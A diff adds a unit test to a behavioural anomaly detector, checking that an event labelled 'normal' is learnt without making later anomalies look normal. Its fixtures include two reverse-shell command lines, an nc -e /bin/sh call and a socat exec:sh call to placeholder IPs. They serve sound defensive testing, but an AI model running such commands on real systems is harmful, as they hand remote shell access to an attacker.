@@ -154,3 +154,47 @@ t.test('a key labelled anomalous while the subject learns is not learnt from its
   const [later] = await s.scoreEvents([events.slice(250).find((e) => e.key.includes('/ssh '))!]);
   t.equal(later.verdict, 'bad', `and it is flagged (${later.reasons})`);
 });
+
+t.test('a row labelled normal is learnt, not taken for a sample of normal evidence (review5)', async (t) => {
+  // `normal` feedback puts the event in the window, and retraining held it out with the newest
+  // events: a reverse shell labelled normal (a sanctioned test) became the most extreme value
+  // of the subject's calibration, so every later anomaly less extreme than it was inside the
+  // observed range and at best 1/(n+1): a never-seen `socat` reverse shell, bad (0.000)
+  // without the label, was ugly (0.497) after it, for as long as the event stayed in the window
+  const options: SubjectOptions = { ...OPTIONS, windowEvents: 2000, minSeconds: 0 };
+  const tools = ['git', 'vim', 'make', 'ls', 'curl'];
+  const event = (tool: string, time: number, parent = '/bin/bash', text = `${tool} -v`): BehaviourEvent => {
+    const hour = `hour=${String(Math.floor((time % DAY) / 3600)).padStart(2, '0')}`;
+    return {
+      key: `exec /usr/bin/${tool} <- ${parent}`,
+      values: ['kind=process', `exe=/usr/bin/${tool}`, hour, `parent=${parent}`],
+      pairs: [`parent=${parent}>exe=/usr/bin/${tool}`, `exe=/usr/bin/${tool}>${hour}`],
+      text,
+      time,
+    };
+  };
+  const run = async (label: boolean) => {
+    const r = rng(1);
+    const day = (d: number) => Array.from({ length: 60 }, (_, i) => event(tools[Math.floor(r() * tools.length)], START + d * DAY + 9 * 3600 + i * 480));
+    const s = new Subject('dev@app-01', options);
+    for (let d = 0; d < 8; d++) await s.scoreEvents(day(d));
+    const shell = event('nc', START + 8 * DAY + 9 * 3600, '/tmp/x', 'nc -e /bin/sh 192.0.2.4 4444');
+    const [first] = await s.scoreEvents([shell]);
+    if (label) s.label(shell, 'normal');
+    // four more days: the subject retrains with the labelled event in its window
+    for (let d = 8; d < 12; d++) await s.scoreEvents(day(d));
+    const [other] = await s.scoreEvents([event('socat', START + 12 * DAY + 10 * 3600, '/bin/bash', 'socat tcp:198.51.100.8:443 exec:sh')]);
+    const [again] = await s.scoreEvents([{ ...shell, time: START + 12 * DAY + 11 * 3600 }]);
+    return { first, other, again, state: json(s.toState()) };
+  };
+  const plain = await run(false);
+  const labelled = await run(true);
+  t.equal(plain.first.verdict, 'bad', `the reverse shell is bad (${plain.first.score})`);
+  t.equal(plain.other.verdict, 'bad', `without the label a later socat shell is bad (${plain.other.score})`);
+  t.ok(
+    labelled.state.window.some((x: { e: BehaviourEvent }) => x.e.key.includes('/nc ')),
+    'the labelled event is in the window',
+  );
+  t.equal(labelled.again.verdict, 'good', `the same event is good after the label (${labelled.again.score})`);
+  t.equal(labelled.other.verdict, 'bad', `and the label does not blunt the next anomaly (${labelled.other.score}: ${labelled.other.reasons})`);
+});
